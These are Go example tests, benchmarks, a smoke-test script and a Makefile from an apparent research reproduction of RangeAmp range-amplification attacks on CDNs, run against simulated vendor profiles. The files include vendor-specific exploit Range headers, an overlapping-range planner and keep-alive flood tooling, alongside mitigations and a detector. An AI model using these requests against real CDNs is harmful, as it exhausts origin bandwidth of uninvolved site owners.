package rangeamp_test

import (
	"fmt"

	rangeamp "repro"
)

// Example runs the paper's headline SBR attack: one crafted
// "Range: bytes=0-0" request against a Cloudflare-profiled edge makes
// the origin ship the whole 10 MB resource while the attacker receives
// a single byte.
func Example() {
	store := rangeamp.NewStore()
	store.AddSynthetic("/video.bin", 10<<20, "application/octet-stream")

	topo, err := rangeamp.NewSBRTopology(rangeamp.Cloudflare(), store,
		rangeamp.SBROptions{OriginRangeSupport: true})
	if err != nil {
		fmt.Println(err)
		return
	}
	defer topo.Close()

	result, err := rangeamp.RunSBR(topo, "/video.bin", 10<<20, "example")
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Printf("client body: %d byte\n", len(result.Responses[0].Body))
	fmt.Printf("origin shipped at least the full resource: %v\n",
		result.Amplification.VictimBytes >= 10<<20)
	fmt.Printf("amplification factor above 10000x: %v\n",
		result.Amplification.Factor() > 10000)
	// Output:
	// client body: 1 byte
	// origin shipped at least the full resource: true
	// amplification factor above 10000x: true
}

// ExampleRunOBR cascades two CDNs and sends one multi-range request
// with 100 overlapping ranges over a 1 KB resource; the back-end CDN
// ships ~100 copies across the inter-CDN link.
func ExampleRunOBR() {
	store := rangeamp.NewStore()
	store.AddSynthetic("/1KB.bin", 1024, "application/octet-stream")

	topo, err := rangeamp.NewOBRTopology(rangeamp.Cloudflare(), rangeamp.Akamai(), store)
	if err != nil {
		fmt.Println(err)
		return
	}
	defer topo.Close()

	result, err := rangeamp.RunOBR(topo, "/1KB.bin", 100)
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Printf("reply parts: %d\n", result.Parts)
	fmt.Printf("inter-CDN traffic at least 100 copies: %v\n",
		result.Amplification.VictimBytes >= 100*1024)
	// Output:
	// reply parts: 100
	// inter-CDN traffic at least 100 copies: true
}

// ExamplePlanMaxN derives the largest usable number of overlapping
// ranges from the cascaded vendors' header limits, the way §V-C does.
func ExamplePlanMaxN() {
	cdn77, _ := rangeamp.VendorByName("cdn77")
	akamai, _ := rangeamp.VendorByName("akamai")
	plan := rangeamp.PlanMaxN(cdn77, akamai, "/1KB.bin")
	fmt.Printf("lead token %q, n = %d\n", plan.FirstToken, plan.N)
	// Output:
	// lead token "-1024", n = 5455
}

// ExampleSBRExploit shows the Table IV exploited Range cases, which
// depend on the vendor and (for Azure and Huawei) the resource size.
func ExampleSBRExploit() {
	fmt.Println(rangeamp.SBRExploit("akamai", 25<<20).RangeHeader)
	fmt.Println(rangeamp.SBRExploit("azure", 25<<20).RangeHeader)
	fmt.Println(rangeamp.SBRExploit("cloudfront", 25<<20).RangeHeader)
	fmt.Println(rangeamp.SBRExploit("keycdn", 25<<20).Repeat)
	// Output:
	// bytes=0-0
	// bytes=8388608-8388608
	// bytes=0-0,9437184-9437184
	// 2
}

// ExampleMitigateLaziness shows a §VI-C fix collapsing the SBR factor.
func ExampleMitigateLaziness() {
	store := rangeamp.NewStore()
	store.AddSynthetic("/f.bin", 1<<20, "application/octet-stream")
	topo, err := rangeamp.NewSBRTopology(rangeamp.MitigateLaziness(rangeamp.Cloudflare()),
		store, rangeamp.SBROptions{OriginRangeSupport: true})
	if err != nil {
		fmt.Println(err)
		return
	}
	defer topo.Close()
	result, err := rangeamp.RunSBR(topo, "/f.bin", 1<<20, "lazy")
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Printf("factor below 2x: %v\n", result.Amplification.Factor() < 2)
	// Output:
	// factor below 2x: true
}
