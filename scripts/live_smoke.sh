#!/usr/bin/env bash
# live_smoke.sh — end-to-end check of the live telemetry plane over
# real TCP: origind + cdnsim, a keep-alive SBR flood from the attack
# client, an SSE capture of cdnsim's /debug/live stream, and a
# goroutine/connection leak check via the netsim live-conn gauge.
#
# Asserts:
#   1. /debug/live?sse=1 yields >= 2 distinct frames during the flood;
#   2. at least one frame carries a nonzero cdn-origin (victim-segment)
#      down-direction byte rate;
#   3. after the flood exits, the client-cdn live-conn gauge drains to 0
#      (no leaked accepted connections).
set -euo pipefail

PORT_ORIGIN=${PORT_ORIGIN:-18080}
PORT_EDGE=${PORT_EDGE:-18081}
PORT_EDGE_DEBUG=${PORT_EDGE_DEBUG:-16061}
WORK=$(mktemp -d /tmp/rangeamp-live-smoke.XXXXXX)

PIDS=()
cleanup() {
  for pid in "${PIDS[@]:-}"; do
    kill "$pid" 2>/dev/null || true
  done
  wait 2>/dev/null || true
  rm -rf "$WORK"
}
trap cleanup EXIT

echo "== building daemons"
go build -o "$WORK/origind" ./cmd/origind
go build -o "$WORK/cdnsim" ./cmd/cdnsim
go build -o "$WORK/attack" ./cmd/attack

echo "== starting origind on :$PORT_ORIGIN"
"$WORK/origind" -addr "127.0.0.1:$PORT_ORIGIN" -sizes 1MB=1048576 \
  >"$WORK/origind.log" 2>&1 &
PIDS+=($!)

echo "== starting cdnsim on :$PORT_EDGE (live telemetry on :$PORT_EDGE_DEBUG)"
"$WORK/cdnsim" -vendor cloudflare -addr "127.0.0.1:$PORT_EDGE" \
  -origin "127.0.0.1:$PORT_ORIGIN" -metrics-addr "127.0.0.1:$PORT_EDGE_DEBUG" \
  -stats 1s >"$WORK/cdnsim.log" 2>&1 &
PIDS+=($!)

# Wait for the debug endpoint to come up.
for i in $(seq 1 50); do
  if curl -sf "http://127.0.0.1:$PORT_EDGE_DEBUG/debug/live" >/dev/null; then
    break
  fi
  [ "$i" = 50 ] && { echo "FAIL: cdnsim debug endpoint never came up"; exit 1; }
  sleep 0.2
done

echo "== starting keep-alive SBR flood"
"$WORK/attack" -mode sbr -edge "127.0.0.1:$PORT_EDGE" -path /1MB.bin \
  -vendor cloudflare -size 1048576 -count 100000 -conns 4 \
  >"$WORK/attack.log" 2>&1 &
ATTACK_PID=$!
PIDS+=($ATTACK_PID)

echo "== capturing 3 SSE frames from /debug/live"
curl -sN --max-time 30 \
  "http://127.0.0.1:$PORT_EDGE_DEBUG/debug/live?sse=1&frames=3" \
  >"$WORK/sse.out" || true

FRAMES=$(grep -c '^data: ' "$WORK/sse.out" || true)
echo "   captured $FRAMES frames"
if [ "$FRAMES" -lt 2 ]; then
  echo "FAIL: wanted >= 2 SSE frames, got $FRAMES"
  cat "$WORK/sse.out"
  exit 1
fi
# Distinct frames: the seq field must not repeat.
DISTINCT=$(grep '^data: ' "$WORK/sse.out" | grep -o '"seq":[0-9]*' | sort -u | wc -l)
if [ "$DISTINCT" -lt 2 ]; then
  echo "FAIL: frames are not distinct (seqs: $(grep -o '"seq":[0-9]*' "$WORK/sse.out" | tr '\n' ' '))"
  exit 1
fi
# Victim-segment byte rate: the cdn-origin down_bps must be nonzero in
# at least one frame (the SegmentRate JSON field order is part of the
# obs schema, so this grep is stable).
if ! grep '^data: ' "$WORK/sse.out" | grep -q '"segment":"cdn-origin","up_bps":[0-9]*,"down_bps":[1-9]'; then
  echo "FAIL: no frame carried a nonzero cdn-origin down-rate"
  cat "$WORK/sse.out"
  exit 1
fi
echo "   OK: distinct frames with nonzero victim-segment byte rates"

echo "== stopping flood, checking connection drain"
kill "$ATTACK_PID" 2>/dev/null || true
wait "$ATTACK_PID" 2>/dev/null || true
DRAINED=""
for i in $(seq 1 50); do
  LIVE=$(curl -sf "http://127.0.0.1:$PORT_EDGE_DEBUG/metrics" \
    | grep -F 'netsim_conns_live{segment="client-cdn"}' | awk '{print $2}')
  if [ "${LIVE:-0}" = "0" ]; then
    DRAINED=yes
    break
  fi
  sleep 0.2
done
if [ -z "$DRAINED" ]; then
  echo "FAIL: client-cdn live-conn gauge stuck at ${LIVE:-?} after flood exit"
  exit 1
fi
echo "   OK: live-conn gauge drained to 0"

echo "live-smoke: PASS"
