package rangeamp

// The benchmark harness: one testing.B target per table and figure of
// the paper's evaluation (§V), plus micro-benchmarks for the hot
// substrate paths. Amplification factors are attached as custom
// metrics, so `go test -bench=. -benchmem` regenerates the paper's
// headline numbers alongside the usual ns/op columns. BenchmarkExpAll
// drives the full experiment registry at several scheduler widths —
// the parallel-vs-serial wall-clock comparison in one bench table.

import (
	"context"
	"fmt"
	"io"
	"sync"
	"testing"

	"repro/internal/core"
	"repro/internal/detect"
	"repro/internal/exp"
	"repro/internal/h2"
	"repro/internal/multipart"
	"repro/internal/origin"
	"repro/internal/ranges"
	"repro/internal/resource"
	"repro/internal/vendor"
	"repro/internal/workload"
)

var benchCtx = context.Background()

// BenchmarkTable1 regenerates Table I (range forwarding behaviours).
func BenchmarkTable1(b *testing.B) {
	for i := 0; i < b.N; i++ {
		_, observations, err := Table1(benchCtx, 1)
		if err != nil {
			b.Fatal(err)
		}
		if len(observations) != 13*4 {
			b.Fatalf("%d observations", len(observations))
		}
	}
}

// BenchmarkTable2 regenerates Table II (OBR FCDN forwarding).
func BenchmarkTable2(b *testing.B) {
	for i := 0; i < b.N; i++ {
		_, vulnerable, err := Table2(benchCtx, 1)
		if err != nil {
			b.Fatal(err)
		}
		count := 0
		for _, v := range vulnerable {
			if v {
				count++
			}
		}
		b.ReportMetric(float64(count), "vuln-fcdns")
	}
}

// BenchmarkTable3 regenerates Table III (OBR BCDN replying).
func BenchmarkTable3(b *testing.B) {
	for i := 0; i < b.N; i++ {
		_, vulnerable, err := Table3(benchCtx, 1)
		if err != nil {
			b.Fatal(err)
		}
		count := 0
		for _, v := range vulnerable {
			if v {
				count++
			}
		}
		b.ReportMetric(float64(count), "vuln-bcdns")
	}
}

// BenchmarkTable4 regenerates Table IV at the paper's three reference
// sizes and reports the Akamai 25MB factor (the paper's 43093x
// headline).
func BenchmarkTable4(b *testing.B) {
	for i := 0; i < b.N; i++ {
		res, err := SBRSweep(benchCtx, []int{1, 10, 25}, 1)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(res.Factor["Akamai"][2], "akamai-25MB-factor")
		b.ReportMetric(res.Factor["G-Core Labs"][2], "gcore-25MB-factor")
	}
}

// BenchmarkFig6 runs the full 1..25 MB sweep behind Fig 6a/6b/6c.
func BenchmarkFig6(b *testing.B) {
	sizes := make([]int, 25)
	for i := range sizes {
		sizes[i] = i + 1
	}
	for i := 0; i < b.N; i++ {
		res, err := SBRSweep(benchCtx, sizes, 1)
		if err != nil {
			b.Fatal(err)
		}
		fa, fb, fc := res.Fig6()
		if len(fa.Series) != 13 || len(fb.Series) != 13 || len(fc.Series) != 13 {
			b.Fatal("incomplete figure series")
		}
	}
}

// BenchmarkTable5 regenerates Table V (OBR max amplification over the
// 11 cascaded combinations) and reports the Cloudflare->Akamai factor
// (the paper's 7432x headline).
func BenchmarkTable5(b *testing.B) {
	for i := 0; i < b.N; i++ {
		_, combos, err := Table5(benchCtx, 1)
		if err != nil {
			b.Fatal(err)
		}
		for _, c := range combos {
			if c.FCDN == "Cloudflare" && c.BCDN == "Akamai" {
				b.ReportMetric(c.Result.Amplification.Factor(), "cf-akamai-factor")
			}
		}
	}
}

// BenchmarkFig7 regenerates the bandwidth practicability figure
// (m = 1..15 request waves over a 1000 Mbps origin link).
func BenchmarkFig7(b *testing.B) {
	for i := 0; i < b.N; i++ {
		fig7a, fig7b, err := Bandwidth(benchCtx, DefaultBandwidthConfig())
		if err != nil {
			b.Fatal(err)
		}
		if len(fig7a.Series) != 15 || len(fig7b.Series) != 15 {
			b.Fatal("incomplete Fig 7 series")
		}
		// Peak origin consumption at m=15 (the exhausted-link regime).
		peak := 0.0
		for _, y := range fig7b.Series[14].Y {
			if y > peak {
				peak = y
			}
		}
		b.ReportMetric(peak, "m15-peak-Mbps")
	}
}

// BenchmarkMitigation runs the §VI-C ablation.
func BenchmarkMitigation(b *testing.B) {
	for i := 0; i < b.N; i++ {
		if _, err := Mitigations(benchCtx, 1); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkExpAll runs every registered experiment through the
// registry at several scheduler widths. The parallel>=4 sub-benchmarks
// are expected to beat parallel=1 wall-clock on multi-core hosts: each
// probe cell is an isolated topology, so the suite is embarrassingly
// parallel.
func BenchmarkExpAll(b *testing.B) {
	for _, parallel := range []int{1, 4, 8} {
		b.Run(fmt.Sprintf("parallel=%d", parallel), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				results, err := exp.RunAll(benchCtx, exp.Params{Parallel: parallel})
				if err != nil {
					b.Fatal(err)
				}
				if len(results) != len(exp.Names()) {
					b.Fatalf("%d results", len(results))
				}
			}
		})
	}
}

// BenchmarkExpAllIsolated overlaps every registered experiment, each
// pinned to its own explicitly constructed Runtime with the scheduler
// inside each experiment at width 8. This is the shape the per-run
// Runtime refactor unlocks: no shared registry shards, no shared
// pattern lock, so on a multi-core host the whole suite runs
// concurrently. Compare ns/op against BenchmarkExpAll/parallel=1.
func BenchmarkExpAllIsolated(b *testing.B) {
	names := exp.Names()
	for i := 0; i < b.N; i++ {
		errs := make([]error, len(names))
		var wg sync.WaitGroup
		for j, name := range names {
			wg.Add(1)
			go func(j int, name string) {
				defer wg.Done()
				_, errs[j] = exp.Run(benchCtx, name, exp.Params{Parallel: 8, Runtime: exp.NewRuntime()})
			}(j, name)
		}
		wg.Wait()
		for j, err := range errs {
			if err != nil {
				b.Fatalf("%s: %v", names[j], err)
			}
		}
	}
}

// --- micro-benchmarks for the substrate hot paths ---

// BenchmarkSBRRequest measures one full SBR attack round trip
// (client -> edge -> origin -> edge -> client) on a 1 MB resource.
func BenchmarkSBRRequest(b *testing.B) {
	store := resource.NewStore()
	store.AddSynthetic("/f.bin", 1<<20, "application/octet-stream")
	topo, err := NewSBRTopology(Cloudflare(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		b.Fatal(err)
	}
	defer topo.Close()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		result, err := RunSBR(topo, "/f.bin", 1<<20, fmt.Sprintf("b%d", i))
		if err != nil {
			b.Fatal(err)
		}
		if i == 0 {
			b.ReportMetric(result.Amplification.Factor(), "factor")
		}
	}
}

// BenchmarkSBRKeepAlive measures one SBR probe over a persistent
// attacker->edge session on the cache-hit steady state: the warm-up
// request below pulls the resource to the edge, so every timed probe
// is a pure keep-alive round trip (no dial, no origin pull). This is
// the engine's per-probe floor — the cost an attacker pays per request
// once the session and the edge cache are warm.
func BenchmarkSBRKeepAlive(b *testing.B) {
	store := resource.NewStore()
	store.AddSynthetic("/f.bin", 1<<20, "application/octet-stream")
	topo, err := NewSBRTopology(Cloudflare(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		b.Fatal(err)
	}
	defer topo.Close()
	exploit := core.SBRExploit(topo.Profile.Name, 1<<20)
	session := origin.NewClient(topo.Net, topo.EdgeAddr, topo.ClientSeg)
	defer session.Close()
	probe := func() {
		req := core.NewAttackRequest("/f.bin?cb=ka")
		req.Headers.Add("Range", exploit.RangeHeader)
		resp, err := session.Do(req)
		if err != nil {
			b.Fatal(err)
		}
		if resp.StatusCode != 206 {
			b.Fatalf("HTTP %d", resp.StatusCode)
		}
	}
	probe() // warm the edge cache and the session
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		probe()
	}
	b.StopTimer()
	st := session.Stats()
	if st.Dials != 1 {
		b.Fatalf("%d dials, want 1 (session not reused)", st.Dials)
	}
	b.ReportMetric(float64(st.Requests)/float64(st.Dials), "reqs/conn")
}

// floodShape is the fixed per-op work of the flood benchmarks: both
// variants push the same requests so their ns/op compare directly.
const benchFloodWorkers, benchFloodPerWorker = 4, 8

func benchFlood(b *testing.B, opts SBROptions, flood FloodOptions) {
	// The edge cache is disabled so every request crosses both hops —
	// the flood measures connection economy, not cache hits. The small
	// resource keeps the transfer cost from hiding the dial cost.
	const size = 1 << 10
	store := resource.NewStore()
	store.AddSynthetic("/f.bin", size, "application/octet-stream")
	opts.OriginRangeSupport = true
	opts.DisableEdgeCache = true
	topo, err := NewSBRTopology(Cloudflare(), store, opts)
	if err != nil {
		b.Fatal(err)
	}
	defer topo.Close()
	flood.Path = "/f.bin"
	flood.ResourceSize = size
	flood.Workers = benchFloodWorkers
	flood.PerWorker = benchFloodPerWorker
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		res, err := RunSBRFloodOpts(benchCtx, topo, flood)
		if err != nil {
			b.Fatal(err)
		}
		if res.Requests != benchFloodWorkers*benchFloodPerWorker || res.Failures != 0 {
			b.Fatalf("flood result %+v", res)
		}
		if i == 0 {
			b.ReportMetric(float64(res.Dials), "dials/flood")
		}
	}
}

// BenchmarkFloodPerRequest is the baseline connection economy: every
// request dials the edge, every edge miss dials the origin.
func BenchmarkFloodPerRequest(b *testing.B) {
	benchFlood(b, SBROptions{}, FloodOptions{})
}

// BenchmarkFloodPooled runs the identical flood over the keep-alive
// engine: one attacker->edge session per worker and a bounded upstream
// connection pool on the edge. The wire bytes per request are the
// same; only the dials disappear.
func BenchmarkFloodPooled(b *testing.B) {
	benchFlood(b,
		SBROptions{UpstreamPool: &PoolConfig{Size: benchFloodWorkers}},
		FloodOptions{KeepAlive: true})
}

// BenchmarkOBRRequest measures one OBR round trip with n=1024 on a
// Cloudflare->Akamai cascade.
func BenchmarkOBRRequest(b *testing.B) {
	store := resource.NewStore()
	store.AddSynthetic("/f.bin", 1024, "application/octet-stream")
	topo, err := NewOBRTopology(Cloudflare(), Akamai(), store)
	if err != nil {
		b.Fatal(err)
	}
	defer topo.Close()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		result, err := RunOBR(topo, "/f.bin", 1024)
		if err != nil {
			b.Fatal(err)
		}
		if result.Parts != 1024 {
			b.Fatalf("%d parts", result.Parts)
		}
	}
}

// BenchmarkRangeParse measures the RFC 7233 parser on the OBR header
// shape (the largest Range headers any edge sees).
func BenchmarkRangeParse(b *testing.B) {
	header := core.BuildOverlappingRange("0-", 10000)
	b.SetBytes(int64(len(header)))
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		set, err := ranges.Parse(header)
		if err != nil || len(set) != 10000 {
			b.Fatal("parse failed")
		}
	}
}

// benchMultipartMessage builds the 1000-part OBR body shape shared by
// the multipart encoding benches.
func benchMultipartMessage() *multipart.Message {
	data := resource.Synthetic("/f", 1024, "x").Data
	msg := &multipart.Message{Boundary: multipart.DefaultBoundary, CompleteLength: 1024}
	for i := 0; i < 1000; i++ {
		msg.Parts = append(msg.Parts, multipart.Part{
			ContentType: "application/octet-stream",
			Window:      ranges.Resolved{Offset: 0, Length: 1024},
			Data:        data,
		})
	}
	return msg
}

// BenchmarkMultipartEncode measures n-part body serialization on the
// wire path — the BCDN's hot path during an OBR flood — via the
// streaming encoder (the joined body is never materialized).
func BenchmarkMultipartEncode(b *testing.B) {
	msg := benchMultipartMessage()
	want := msg.EncodedSize()
	b.SetBytes(want)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		n, err := msg.WriteTo(io.Discard)
		if err != nil || n != want {
			b.Fatalf("wrote %d bytes, want %d (err %v)", n, want, err)
		}
	}
}

// BenchmarkMultipartEncodeLegacy measures the materializing Encode
// wrapper, kept for callers that need the joined bytes.
func BenchmarkMultipartEncodeLegacy(b *testing.B) {
	msg := benchMultipartMessage()
	b.SetBytes(msg.EncodedSize())
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(msg.Encode()) == 0 {
			b.Fatal("empty encode")
		}
	}
}

// BenchmarkSynthetic25MB measures sweep-cell resource construction; all
// synthetic resources alias one shared pattern backing, so this must
// not scale with size.
func BenchmarkSynthetic25MB(b *testing.B) {
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		r := resource.Synthetic("/cell.bin", 25<<20, "application/octet-stream")
		if r.Size() != 25<<20 {
			b.Fatal("bad size")
		}
	}
}

// BenchmarkSynthetic25MBParallel drives the same construction from
// every CPU at once. The pattern slab is immutable after init and
// published through an atomic pointer, so with -cpu 8 this must stay
// at the serial ns/op — the old patternMu critical section serialized
// every sweep cell here.
func BenchmarkSynthetic25MBParallel(b *testing.B) {
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			r := resource.Synthetic("/cell.bin", 25<<20, "application/octet-stream")
			if r.Size() != 25<<20 {
				b.Error("bad size")
			}
		}
	})
}

// BenchmarkMaxNPlanner measures the header-limit solver across all
// FCDN/BCDN pairs.
func BenchmarkMaxNPlanner(b *testing.B) {
	profiles := vendor.All()
	for i := 0; i < b.N; i++ {
		for _, f := range profiles {
			for _, bc := range profiles {
				core.PlanMaxN(f, bc, "/1KB.bin")
			}
		}
	}
}

// --- benches for the extension substrates ---

// BenchmarkH2Comparison regenerates the §VI-B h1-vs-h2 table at 1 MB.
func BenchmarkH2Comparison(b *testing.B) {
	for i := 0; i < b.N; i++ {
		_, factors, err := H2Comparison(benchCtx, 1, 1)
		if err != nil {
			b.Fatal(err)
		}
		f := factors["Akamai"]
		b.ReportMetric(f[1]/f[0], "h2-over-h1-ratio")
	}
}

// BenchmarkHPACKEncode measures header-block encoding of the attack
// request shape.
func BenchmarkHPACKEncode(b *testing.B) {
	fields := []h2.HeaderField{
		{Name: ":method", Value: "GET"},
		{Name: ":scheme", Value: "http"},
		{Name: ":path", Value: "/target.bin?cb=12345"},
		{Name: ":authority", Value: "victim.example.com"},
		{Name: "range", Value: "bytes=0-0"},
		{Name: "user-agent", Value: "rangeamp-attack/1.0"},
	}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if len(h2.EncodeHeaderBlock(fields)) == 0 {
			b.Fatal("empty block")
		}
	}
}

// BenchmarkHPACKDecode measures decoding the same block.
func BenchmarkHPACKDecode(b *testing.B) {
	block := h2.EncodeHeaderBlock([]h2.HeaderField{
		{Name: ":method", Value: "GET"},
		{Name: ":path", Value: "/target.bin?cb=12345"},
		{Name: ":authority", Value: "victim.example.com"},
		{Name: "range", Value: "bytes=0-0"},
	})
	b.SetBytes(int64(len(block)))
	for i := 0; i < b.N; i++ {
		if _, err := h2.DecodeHeaderBlock(block); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkDetectorInspect measures the §VI-C screening hot path under
// the benign mixed workload.
func BenchmarkDetectorInspect(b *testing.B) {
	d := detect.New(detect.Config{})
	reqs := workload.NewGenerator(1).Mixed([]string{"/a", "/b", "/c"}, 64<<20, 512)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if v := d.Inspect(reqs[i%len(reqs)]); v.Malicious {
			b.Fatal("benign request flagged")
		}
	}
}

// BenchmarkNodeTargeting regenerates the §IV-C pinned-vs-spread table.
func BenchmarkNodeTargeting(b *testing.B) {
	for i := 0; i < b.N; i++ {
		_, shares, err := NodeTargeting(benchCtx, 5, 25, 1)
		if err != nil {
			b.Fatal(err)
		}
		b.ReportMetric(shares["pinned"], "pinned-share")
	}
}

// BenchmarkCorpusAudit runs the feasibility corpus across all vendors.
func BenchmarkCorpusAudit(b *testing.B) {
	for i := 0; i < b.N; i++ {
		rep, err := CorpusAudit(benchCtx, 1, 40, 1)
		if err != nil {
			b.Fatal(err)
		}
		if len(rep.Violations) != 0 {
			b.Fatalf("violations: %v", rep.Violations)
		}
	}
}

// --- virtual-time engine benches ---

// BenchmarkFloodEngines runs the identical 64-client keep-alive flood
// through both execution engines. The byte accounting is equal by the
// engine contract (the differential tests pin it); the ns/op column is
// the comparison — the vtime rows replace goroutine-per-client
// execution with calibrate-and-replay discrete events.
func BenchmarkFloodEngines(b *testing.B) {
	const size = 1 << 20
	for _, engine := range []core.Engine{core.EnginePipe, core.EngineVTime} {
		b.Run("engine="+string(engine), func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				store := core.NewStoreWith(size)
				topo, err := NewSBRTopology(Cloudflare(), store, SBROptions{OriginRangeSupport: true})
				if err != nil {
					b.Fatal(err)
				}
				res, err := RunSBRFloodOpts(benchCtx, topo, FloodOptions{
					ResourceSize: size,
					Workers:      64,
					PerWorker:    2,
					KeepAlive:    true,
					Engine:       engine,
					VTime:        core.VTimeOptions{Seed: 1},
				})
				topo.Close()
				if err != nil {
					b.Fatal(err)
				}
				if res.Requests != 128 || res.Failures != 0 {
					b.Fatalf("flood result %+v", res)
				}
				if i == 0 {
					b.ReportMetric(res.Amplification.Factor(), "factor")
				}
			}
		})
	}
}

// BenchmarkFloodVTime1M is the tentpole number: a million keep-alive
// clients against a four-PoP cluster on the discrete-event engine. One
// op is the whole flood; the clients/s metric is the engine's
// simulated-population throughput.
func BenchmarkFloodVTime1M(b *testing.B) {
	const clients = 1_000_000
	for i := 0; i < b.N; i++ {
		res, err := core.RunClusterFlood(benchCtx, nil, core.ClusterFloodOptions{
			Nodes:        4,
			Workers:      clients,
			PerWorker:    1,
			KeepAlive:    true,
			ResourceSize: 1 << 20,
			Engine:       core.EngineVTime,
			VTime:        core.VTimeOptions{Seed: 1},
		})
		if err != nil {
			b.Fatal(err)
		}
		if res.Requests != clients || res.Failures != 0 {
			b.Fatalf("flood result %+v", res)
		}
		if i == 0 {
			b.ReportMetric(res.Amplification.Factor(), "factor")
		}
	}
	b.ReportMetric(float64(clients)*float64(b.N)/b.Elapsed().Seconds(), "clients/s")
}
