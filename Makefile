# RangeAmp reproduction — build/test/bench entry points.

GO ?= go

.PHONY: all build vet test race bench check fuzz experiments campaign-smoke live-smoke vtime-smoke clean

all: build vet test

build:
	$(GO) build ./...

vet:
	$(GO) vet ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

# Full pre-merge gate: vet, build, tests, and a race pass over the
# scheduler-heavy packages, the daemons that share the process-wide
# metrics registry and tracer, the pooled wire-path substrate
# (buffer pools + shared resource views are cross-goroutine state),
# the keep-alive engine (upstream conn pool + sharded cache), and the
# live telemetry plane (sampler + SSE subscribers + campaign workers).
check:
	$(GO) vet ./...
	$(GO) build ./...
	$(GO) test ./...
	$(GO) test -race ./internal/exp ./internal/core ./internal/cluster ./internal/metrics ./internal/trace ./internal/multipart ./internal/httpwire ./internal/netsim ./internal/resource ./internal/cdn ./internal/cache ./internal/origin ./internal/obs ./internal/campaign ./internal/transport ./internal/vtime ./cmd/origind ./cmd/cdnsim ./cmd/attack ./cmd/rangeamp

# Regenerates the paper's headline numbers as custom bench metrics,
# snapshots the full suite into BENCH_PR10.json (schema in DESIGN.md),
# prints the per-benchmark delta against the previous PR's snapshot
# (now including allocs/op columns), gates on the parallel-scheduler
# speedup (skipped automatically on runners with fewer than 8 procs,
# where it cannot manifest), and pins the allocation-free event core:
# the 1M-client vtime flood must stay within 100k allocs/op and the
# full experiment sweep within 1M (it sat at 3.8M before the typed
# event records landed).
bench:
	$(GO) test -bench=. -benchmem -count=1 ./... | $(GO) run ./cmd/benchjson -out BENCH_PR10.json -compare BENCH_PR9.json -ratio 'BenchmarkExpAll/parallel=8,BenchmarkExpAll/parallel=1,0.67' -allocs 'BenchmarkFloodVTime1M,100000;BenchmarkExpAll/parallel=1,1000000'

# The virtual-time engine's tentpole contract: a million-client and a
# ten-million-client keep-alive flood on the discrete-event engine each
# finish under 60s of wall time and a seed-repeated run is
# byte-identical (both tests rerun themselves and compare every
# quantity). The 10M tier opts in via RANGEAMP_VTIME_10M so plain
# `go test ./...` stays light.
vtime-smoke:
	$(GO) test -run TestVTimeFloodMillion -count=1 -v ./internal/core
	RANGEAMP_VTIME_10M=1 $(GO) test -run TestVTimeFlood10M -count=1 -v -timeout 10m ./internal/core

# Short fuzzing pass over the three wire parsers.
fuzz:
	$(GO) test -fuzz=FuzzParse -fuzztime=30s ./internal/ranges/
	$(GO) test -fuzz=FuzzReadRequest -fuzztime=30s ./internal/httpwire/
	$(GO) test -fuzz=FuzzDecode -fuzztime=30s ./internal/multipart/
	$(GO) test -fuzz=FuzzDecodeHeaderBlock -fuzztime=30s ./internal/h2/

# Every experiment, printed as text tables and figure series.
experiments:
	$(GO) run ./cmd/rangeamp -exp all

# The campaign runner's end-to-end contract on a tiny 8-cell sweep:
# run it, resume it (must execute zero cells), and diff it against a
# copy of itself (must report no regressions).
campaign-smoke:
	rm -rf /tmp/rangeamp-campaign-smoke
	mkdir -p /tmp/rangeamp-campaign-smoke
	$(GO) run ./cmd/rangeamp campaign -spec examples/campaign/smoke.json -out /tmp/rangeamp-campaign-smoke/run -parallel 4 | tee /tmp/rangeamp-campaign-smoke/first.log
	grep -q '8 executed, 0 skipped' /tmp/rangeamp-campaign-smoke/first.log
	$(GO) run ./cmd/rangeamp campaign -spec examples/campaign/smoke.json -out /tmp/rangeamp-campaign-smoke/run -resume | tee /tmp/rangeamp-campaign-smoke/resume.log
	grep -q '0 executed, 8 skipped' /tmp/rangeamp-campaign-smoke/resume.log
	cp -r /tmp/rangeamp-campaign-smoke/run /tmp/rangeamp-campaign-smoke/baseline
	$(GO) run ./cmd/rangeamp campaign -out /tmp/rangeamp-campaign-smoke/run -diff /tmp/rangeamp-campaign-smoke/baseline | grep 'no regressions'

# End-to-end check of the live telemetry plane over real TCP: origind +
# cdnsim + a keep-alive flood, an SSE capture of /debug/live asserting
# distinct frames with nonzero victim-segment byte rates, then a
# connection-drain check on the netsim live-conn gauge.
live-smoke:
	bash scripts/live_smoke.sh

clean:
	$(GO) clean ./...
