package measure

import (
	"strings"
	"testing"

	"repro/internal/netsim"
)

func TestFactor(t *testing.T) {
	tests := []struct {
		a    Amplification
		want float64
	}{
		{Amplification{VictimBytes: 26214400, AttackerBytes: 608}, 43116.0},
		{Amplification{VictimBytes: 100, AttackerBytes: 0}, 0},
		{Amplification{VictimBytes: 0, AttackerBytes: 100}, 0},
	}
	for _, tt := range tests {
		got := tt.a.Factor()
		if diff := got - tt.want; diff > 1 || diff < -1 {
			t.Errorf("%+v.Factor() = %.2f, want ~%.2f", tt.a, got, tt.want)
		}
	}
}

func TestProbeDelta(t *testing.T) {
	victim := netsim.NewSegment("cdn-origin")
	attacker := netsim.NewSegment("client-cdn")

	// Pre-existing traffic must not count.
	c1, s1 := netsim.Pipe(victim, 0)
	go s1.Write(make([]byte, 100))
	buf := make([]byte, 100)
